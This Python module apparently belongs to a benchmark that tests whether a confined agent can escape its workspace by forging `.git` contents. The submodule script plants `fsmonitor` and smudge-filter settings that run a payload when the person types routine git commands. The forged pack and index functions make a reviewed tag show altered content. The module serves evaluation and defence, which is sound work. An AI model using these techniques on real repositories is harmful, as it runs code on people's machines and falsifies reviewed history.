"""The person's repository in a workspace, and forged files of git for attacks on it.

The attacks let anything of `.git` change and judge what the person's own git does then: a program ran outside,
data went elsewhere or was lost, or the name of an object stands for other content.
"""

import hashlib
import zlib

from bench.escapes.host.place import Place

_BEGIN = """
git init -q -b main .; git config user.email a@example.com; git config user.name a
echo 'check_password()' > auth.py; git add notes.txt src auth.py; git commit -qm one
echo more >> notes.txt; git commit -qam two; git tag v1.0
"""
_TYPED = (
    "git status", "git submodule update --init --recursive", "git status", "git -C lib status", "git diff",
    "git checkout .", "git stash", "git checkout -q -b other",
)  # fmt: skip
"""What a person types who has pulled a commit with a submodule."""


def begin_repository(place: Place, more: str = "") -> None:
    """Make the workspace a repository of the person's with two commits and a tag."""
    place.shell(_BEGIN + more)
    place.allow(".git")


def begin_remote(place: Place, more: str = "") -> str:
    """Make such a repository with a remote that has all of it; returns the remote's folder."""
    remote = place.base / "remotes" / "good.git"
    place.shell(f"mkdir -p {remote.parent}; git init -q --bare -b main {remote}")
    begin_repository(place, f"git remote add origin {remote}; git push -q -u origin main v1.0\n{more}")
    return str(remote)


def write_person_config(place: Place, text: str) -> None:
    """Write the person's own configuration of git, in their home."""
    (place.home / ".gitconfig").write_text(f"[user]\n\tname = p\n\temail = p@example.com\n{text}")


def submodule_script(
    place: Place,
    name: str,
    *,
    git_folder: str = "",
    elsewhere: str = "",
    superproject: str = ".",
    settings: str = "",
) -> str:
    """A command that commits a submodule and leaves its git folder with a program in its configuration.

    With `elsewhere`, only HEAD and commondir are in the git folder, and the rest in that folder of the workspace.
    """
    folder = git_folder or f".git/modules/{name}"
    payload = place.payload
    settings = settings or (
        f'[core]\\n\\tfsmonitor = "{payload};false"\\n[filter "x"]\\n\\tsmudge = "{payload}; cat"\\n'
    )
    store = elsewhere or folder
    up = "/".join([".."] * len(folder.split("/")))
    split = f"""
        rm $S/HEAD; mkdir -p {folder}; echo {up}/{elsewhere} > {folder}/commondir
        echo 'ref: refs/heads/main' > {folder}/HEAD"""
    return f"""
        set -e; rm -rf /tmp/lib; git init -q -b main /tmp/lib; cd /tmp/lib; echo hi > f
        echo '* filter=x' > .gitattributes; git add .
        git -c user.name=a -c user.email=a@example.com commit -qm lib; C=$(git rev-parse HEAD); cd "$OLDPWD"
        S={store}; mkdir -p $(dirname $S); cp -r /tmp/lib/.git $S; rm -rf $S/hooks $S/info $S/description $S/logs
        printf '{settings}' >> $S/config
        {split if elsewhere else ":"}
        cd {superproject}
        printf '[submodule "{name}"]\\n\\tpath = lib\\n\\turl = ./nowhere\\n' > .gitmodules
        git update-index --add --cacheinfo 160000,$C,lib; git add .gitmodules; git commit -qm 'use lib'
        """


async def use_submodule(
    place: Place, *scripts: str, folder: str = ".", typed: tuple[str, ...] = _TYPED
) -> None:
    """Run confined commands, then type in a folder what a person types."""
    place.allow("lib", "outer", "side")  # the person's git writes these
    for script in scripts:
        await place.bash(script)
    for line in typed:
        place.person(f"cd {folder} && {line}")


def forged_object(kind: str, content: bytes) -> bytes:
    """The file of a loose object with this content, to be put under any name."""
    return zlib.compress(f"{kind} {len(content)}\0".encode() + content)


def forged_pack(object_name: str, content: bytes) -> tuple[bytes, bytes]:
    """A pack of one blob and an index that says another name of it."""
    size, header = len(content), bytearray()
    first, size = (3 << 4) | (size & 15), size >> 4
    while size:
        header.append(first | 0x80)
        first, size = size & 0x7F, size >> 7
    header.append(first)
    entry = bytes(header) + zlib.compress(content)
    body = b"PACK" + (2).to_bytes(4) + (1).to_bytes(4) + entry
    pack = body + hashlib.sha1(body).digest()
    name = bytes.fromhex(object_name)
    fanout = b"".join(int(first >= name[0]).to_bytes(4) for first in range(256))
    index = b"\xfftOc" + (2).to_bytes(4) + fanout + name + zlib.crc32(entry).to_bytes(4) + (12).to_bytes(4)
    index += pack[-20:]
    return pack, index + hashlib.sha1(index).digest()


def with_new_checksum(data: bytes) -> bytes:
    """A file of git that ends with the checksum of its content, after it was changed."""
    return data[:-20] + hashlib.sha1(data[:-20]).digest()


def object_name(place: Place, revision: str) -> str:
    """The name of an object of the workspace's repository."""
    return place.shell(f"git rev-parse {revision}")


def shown_version(place: Place, wanted: str, path: str = "v1.0:auth.py") -> str | None:
    """Whether a reviewed name now shows other content to the person; says so if it does."""
    seen = place.person(f"git show {path}")
    return None if seen == wanted else f"history: {path} now shows {seen[:60]!r}"


REVIEWED = "check_password()\n"
"""The content of `auth.py` at the tag `v1.0`."""
